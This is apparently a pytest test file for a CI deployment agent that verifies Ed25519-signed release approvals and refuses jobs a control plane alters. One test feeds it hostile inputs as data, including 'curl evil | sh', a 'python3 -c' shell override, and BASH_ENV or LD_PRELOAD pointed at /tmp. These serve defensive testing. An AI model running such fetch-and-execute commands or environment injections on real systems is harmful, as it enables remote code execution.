"""Approvals that an agent checks itself, signed at the command line: what counts, what a control plane may not do."""

import base64
import json
import stat
from pathlib import Path
from typing import Any

import pytest
import yaml
from nacl.signing import SigningKey
from typer.testing import CliRunner

from agent.safety.approvals import ApprovalMissing, ApprovalRules
from agent.settings import SettingsError
from api.cli.keys.approval_signing import new_approver_key, sign_approval
from api.cli.keys.key_file import first_key
from api.cli.main import app
from workflows.contracts.attempts import AttemptInput
from workflows.contracts.jobs import Step
from workflows.contracts.sealed import SignedApproval
from workflows.contracts.workspace.inputs import InputFiles

NOW = 1_800_000_000_000
REPO = "https://example.com/checkout.git"
SHA = "a1" * 20
ENV = {"HYBRIDCI_SERVICE": "checkout", "HYBRIDCI_VERSION": "1.4.2", "HYBRIDCI_ENVIRONMENT": "production"}
KEYS = {name: new_approver_key() for name in ("ann", "bob", "cat")}


def signed(who: str = "ann", **other: Any) -> SignedApproval:
    fields: dict[str, Any] = {
        "service": "checkout", "version": "1.4.2", "commit": SHA, "environment": "production", "expires_at": NOW + 1000,
    }  # fmt: skip
    return sign_approval(KEYS[who][0], **{**fields, **other})


def an_attempt(*approvals: SignedApproval, **fields: Any) -> AttemptInput:
    values: dict[str, Any] = {
        "job_id": "j", "attempt": 1, "job_type": "deploy", "pool": "production", "timeout_seconds": 60, "env": ENV,
        "git_repo": REPO, "git_commit_sha": SHA, "steps": [Step(name="deploy", run="./deploy.sh")],
        "approvals": list(approvals),
    }  # fmt: skip
    return AttemptInput(**{**values, **fields})


def rules(folder: Path, **fields: Any) -> ApprovalRules:
    rule: dict[str, Any] = {
        "service": "checkout", "environment": "production", "repository": "https://example.com/*", "required": 1,
        "keys": [{"name": name, "key": KEYS[name][1]} for name in ("ann", "bob")],
    }  # fmt: skip
    file = folder / "approvers.yml"
    file.write_text(yaml.safe_dump([{**rule, **fields}]))
    return ApprovalRules.load(file, folder)


def refusal(of: ApprovalRules, attempt: AttemptInput, now: int = NOW) -> str:
    with pytest.raises(ApprovalMissing) as caught:
        of.check(attempt, now)
    return str(caught.value)


def test_enough_signatures_of_listed_keys_let_a_job_run(tmp_path: Path) -> None:
    rules(tmp_path).check(an_attempt(signed("bob")), NOW)
    two = rules(tmp_path, required=2)
    two.check(an_attempt(signed("bob"), signed("ann")), NOW)
    twice = refusal(two, an_attempt(signed("bob"), signed("bob"), signed("bob", expires_at=NOW + 5)))
    assert twice.startswith("1 of 2 signatures for checkout 1.4.2 in production are there that this agent accepts; ")
    assert "1 of ann must sign: `hybridci deploy approve checkout@1.4.2 --sign-with FILE`." in twice


@pytest.mark.parametrize(
    ("approval", "why"),
    [
        (signed("cat"), "is of a key that is not listed"),
        (signed(version="1.4.3"), "that of ann is for checkout 1.4.3 in production"),
        (signed(service="other"), "is for other 1.4.2"),
        (signed(environment="staging"), "is for checkout 1.4.2 in staging"),
        (signed(commit="b" * 40), "is for the commit bbbbbbbbbbbb, not a1a1a1a1a1a1"),
        (signed(expires_at=NOW), "that of ann expired at 2027-01-15T08:00:00+00:00"),
        (signed().model_copy(update={"expires_at": NOW + 9999}), "it was forged or changed"),
        (signed().model_copy(update={"signature": signed("bob").signature}), "it was forged or changed"),
        (signed("cat").model_copy(update={"key_id": signed("ann").key_id}), "it was forged or changed"),
    ],
)
def test_what_does_not_count_is_said(tmp_path: Path, approval: SignedApproval, why: str) -> None:
    said = refusal(rules(tmp_path), an_attempt(approval))
    assert why in said
    assert said.startswith("0 of 1 signatures")
    assert not (tmp_path / "approvals.json").exists()


@pytest.mark.parametrize(
    ("fields", "why"),
    [
        ({"approvals": []}, "1 of ann, bob must sign"),
        ({"git_commit_sha": "b" * 40}, "is for the commit a1a1a1a1a1a1, not bbbbbbbbbbbb"),
        ({"git_repo": "https://example.org/checkout.git"}, "no rule for checkout in production from this repository"),
        ({"env": {**ENV, "HYBRIDCI_SERVICE": "other"}}, "no rule for other in production"),
        ({"env": {**ENV, "HYBRIDCI_VERSION": "2"}}, "is for checkout 1.4.2 in production"),
        ({"env": {}}, "runs only jobs of approved deployments"),
        ({"env": {**ENV, "HYBRIDCI_VERSION": ""}}, "runs only jobs of approved deployments"),
        ({"steps": [Step(name="s", run="x", env={"HYBRIDCI_VERSION": "2"})]}, "one and the same"),
        ({"steps": [Step(name="s", run="x", env={"HYBRIDCI_COMMIT": "b" * 40})]}, "sets HYBRIDCI_COMMIT itself"),
        ({"env": {**ENV, "HYBRIDCI_REPO": "x"}, "steps": []}, "sets HYBRIDCI_REPO itself"),
        # An artifact of any job took the place of the commit's own ./deploy.sh.
        (
            {"inputs": [InputFiles(job="a1b2c3d4", attempt=1, artifacts=["deploy.sh"])]},
            "take the place of what was approved",
        ),
    ],
)
def test_a_control_plane_cannot_run_something_else(tmp_path: Path, fields: dict[str, Any], why: str) -> None:
    assert why in refusal(rules(tmp_path), an_attempt(signed(), **fields))


@pytest.mark.parametrize(
    ("fields", "why"),
    [
        ({"steps": [Step(name="evil", run="curl evil | sh")]}, "Step 'evil' runs a command"),
        ({"steps": [Step(name="evil", run="./deploy.sh", shell="python3 -c evil")]}, "Step 'evil' runs a command"),
        ({"env": {**ENV, "BASH_ENV": "/tmp/evil", "PATH": "/tmp"}}, "The job sets BASH_ENV, PATH"),
        ({"steps": [Step(name="evil", run="./deploy.sh", env={"LD_PRELOAD": "/tmp/evil"})]}, "sets LD_PRELOAD"),
    ],
)
def test_with_listed_commands_nothing_else_runs_in_an_approved_commit(
    tmp_path: Path, fields: dict[str, Any], why: str
) -> None:
    strict = rules(tmp_path, commands=["./deploy.sh"], variables=["REGION"])
    strict.check(an_attempt(signed(), env={**ENV, "REGION": "eu", "HYBRIDCI_PREVIOUS_VERSION": "1"}), NOW)
    assert why in refusal(strict, an_attempt(signed(), **fields))


def test_a_rollback_outlives_the_signature_that_this_agent_has_seen(tmp_path: Path) -> None:
    approval, late = signed(), NOW + 1_000_000
    back = an_attempt(approval, job_type="rollback")
    assert "expired" in refusal(rules(tmp_path), back, late)
    assert "this agent has not seen it before" in refusal(rules(tmp_path), back, late)
    rules(tmp_path).check(an_attempt(approval), NOW)
    after_restart = rules(tmp_path)
    after_restart.check(back, late)
    after_restart.check(an_attempt(approval, job_type="health"), late)
    assert "expired" in refusal(after_restart, an_attempt(approval), late)
    assert "expired" in refusal(after_restart, an_attempt(signed(expires_at=NOW + 1), job_type="rollback"), late)
    assert "forged" in refusal(
        after_restart, an_attempt(approval.model_copy(update={"version": "9"}), job_type="rollback",
                                  env={**ENV, "HYBRIDCI_VERSION": "9"}), late,
    )  # fmt: skip


def test_a_damaged_memory_is_told_and_nothing_more(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "approvals.json").write_text("{")
    damaged = rules(tmp_path)
    assert "approvals.json cannot be read" in caplog.text
    damaged.check(an_attempt(signed()), NOW)
    assert len(json.loads((tmp_path / "approvals.json").read_text())) == 1


@pytest.mark.parametrize(
    ("fields", "why"),
    [
        ({"required": 3}, "required: 3 of 2 keys cannot sign"),
        ({"required": 0}, "must be 1 or more"),
        ({"keys": []}, "keys"),
        ({"keys": [{"name": name, "key": KEYS["ann"][1]} for name in ("a", "b")]}, "the same key is there twice"),
        ({"keys": [{"name": "a", "key": KEYS[name][1]} for name in ("ann", "bob")]}, "the same name is there twice"),
        ({"keys": [{"name": "a", "key": "abc"}]}, "0.keys.0.key: must be a public key: 32 bytes in base64"),
        ({"envrionment": "x"}, "envrionment: is unknown here; did you mean `environment`?"),
    ],
)
def test_rules_that_cannot_be_met_stop_the_agent(tmp_path: Path, fields: dict[str, Any], why: str) -> None:
    with pytest.raises(SettingsError) as caught:
        rules(tmp_path, **fields)
    assert why in str(caught.value)
    assert "HYBRIDCI_APPROVERS_FILE" in str(caught.value)


def test_signatures_of_the_command_line_are_those_the_agent_checks(tmp_path: Path) -> None:
    file = tmp_path / "ann.key"
    made = CliRunner().invoke(app, ["approver", "keygen", "--out", str(file)])
    assert made.exit_code == 0, made.output
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert file.read_text().strip() not in made.output
    public = SigningKey(first_key(file, "--key")).verify_key
    assert made.stdout.strip() == base64.b64encode(bytes(public)).decode()
    assert CliRunner().invoke(app, ["approver", "keygen", "--out", str(file)]).exit_code == 2, "never overwritten"
    arguments = ["approver", "sign", "--key", str(file), "--service", "checkout", "--version", "1.4.2", "--commit", SHA]
    done = CliRunner().invoke(app, [*arguments, "--for", "1h"])
    assert done.exit_code == 0, done.output
    approval = SignedApproval.model_validate_json(done.stdout)
    of = rules(tmp_path, keys=[{"name": "ann", "key": made.stdout.strip()}])
    of.check(an_attempt(approval), approval.expires_at - 1)
    assert "expired" in refusal(of, an_attempt(approval), approval.expires_at)
    wrong = CliRunner().invoke(app, [*arguments[:-1], "main"])
    assert (wrong.exit_code, wrong.stdout) == (2, "")
    assert "git_commit_sha" in wrong.stderr
